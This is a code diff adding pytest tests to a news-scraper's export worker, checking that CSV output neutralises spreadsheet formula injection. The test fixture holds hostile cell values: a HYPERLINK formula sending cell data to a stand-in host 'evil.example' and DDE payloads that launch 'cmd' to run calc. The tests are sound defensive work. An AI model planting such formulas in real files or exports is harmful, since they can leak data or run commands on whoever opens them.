@@ -20,12 +20,15 @@ import pytest
 from referencing import Registry, Resource
 from sqlalchemy import select
 
-from tests.e2e.records import THANH_HOA_TITLE, seed
+from scrapers.records import ArticleRecord
+from tests.e2e.records import T0, THANH_HOA_TITLE, seed
 from worker.bootstrap import open_runtime
+from worker.db.engine import transaction
 from worker.db.models import Event
 from worker.export import (
     CSV_FIELDS,
     RECORD_SCHEMA_ID,
+    csv_safe,
     csv_value,
     export_rows,
     write_csv,
@@ -33,6 +36,7 @@ from worker.export import (
 )
 from worker.export_parquet import read_parquet, write_parquet
 from worker.settings import Settings
+from worker.store import PageMeta, create_article
 
 pytestmark = pytest.mark.db
 SCHEMA_PATH = Path(__file__).resolve().parents[2] / "schema" / "record.schema.json"
@@ -157,3 +161,63 @@ def test_cli_filters_match_the_api(seeded: tuple[Settings, dict[str, int]], tmp_
     assert titles == [THANH_HOA_TITLE]
     bad = _cli(settings, "--crime-article", "abc")
     assert bad.returncode == 2 and b"crime_article" in bad.stderr
+
+
+# A page that fills its fields with spreadsheet formulas (OWASP CSV injection).
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
+    "lead": "+1+cmd|' /C calc'!A0",
+    "authors": ("@SUM(1+1)*cmd|' /C calc'!A0", "Lê Thị Mai"),
+    "section": "-2+3",
+    "tags": ("\tma túy", "Thanh Hóa"),
+    "paragraphs": ("\r=1+1 đoạn đầu", "Đoạn thường."),
+}
+
+
+def _store_hostile(settings: Settings) -> int:
+    url = "https://bao.example.vn/cong-thuc.html"
+    record = ArticleRecord(url=url, canonical_url=url, published_at=T0, **HOSTILE)  # type: ignore[arg-type]
+    meta = PageMeta(url=url, raw_sha256=None, etag=None, last_modified=None, feed_hint=None,
+                    fetched_at=T0)  # fmt: skip
+    runtime = open_runtime(settings)
+    with transaction(runtime.sessions) as session:
+        stored = create_article(session, source_key="cand", identity=url, record=record,
+                                meta=meta, parser_version="test")  # fmt: skip
+    runtime.engine.dispose()
+    return stored.article_id
+
+
+def test_csv_cells_never_start_a_formula(seeded: tuple[Settings, dict[str, int]]) -> None:
+    settings, _ = seeded
+    article_id = _store_hostile(settings)
+    done = _cli(settings, "--format", "csv", "--source", "cand")
+    assert done.returncode == 0, done.stderr.decode()
+    rows = list(csv.DictReader(io.StringIO(done.stdout.decode("utf-8"), newline="")))
+    row = next(r for r in rows if r["id"] == str(article_id))
+    assert row["title"] == "'" + HOSTILE["title"]
+    assert row["lead"] == "'" + HOSTILE["lead"]
+    assert row["authors"] == "'" + "; ".join(HOSTILE["authors"])
+    assert row["section"] == "'-2+3"
+    assert row["tags"] == "'\tma túy; Thanh Hóa"
+    assert row["text"] == "'\r=1+1 đoạn đầu\n\nĐoạn thường."
+    for cells in rows:  # no cell of any row starts a formula; ids stay plain numbers
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in cells.values())
+        assert cells["id"].isdigit() and cells["url"].startswith("https://")
+    jsonl = _cli(settings, "--format", "jsonl", "--source", "cand")
+    record = next(r for r in map(json.loads, jsonl.stdout.decode().splitlines())
+                  if r["id"] == article_id)  # fmt: skip
+    assert record["title"] == HOSTILE["title"] and record["section"] == "-2+3"
+    assert record["paragraphs"] == list(HOSTILE["paragraphs"])
+
+
+def test_csv_safe_touches_only_text() -> None:
+    assert [csv_safe(t) for t in ("=1", "+1", "-1", "@a", "\t1", "\r1")] == [
+        "'=1", "'+1", "'-1", "'@a", "'\t1", "'\r1"
+    ]  # fmt: skip
+    assert [csv_safe(t) for t in ("", "1", "a=1", " =1", "'=1", "Công an")] == [
+        "", "1", "a=1", " =1", "'=1", "Công an"
+    ]  # fmt: skip
+    row = {"id": -7, "revision": 2, "story_id": None, "title": "-7"}
+    assert [csv_value(row, n) for n in ("id", "revision", "story_id", "title")] == [
+        "-7", "2", "", "'-7"
+    ]  # fmt: skip
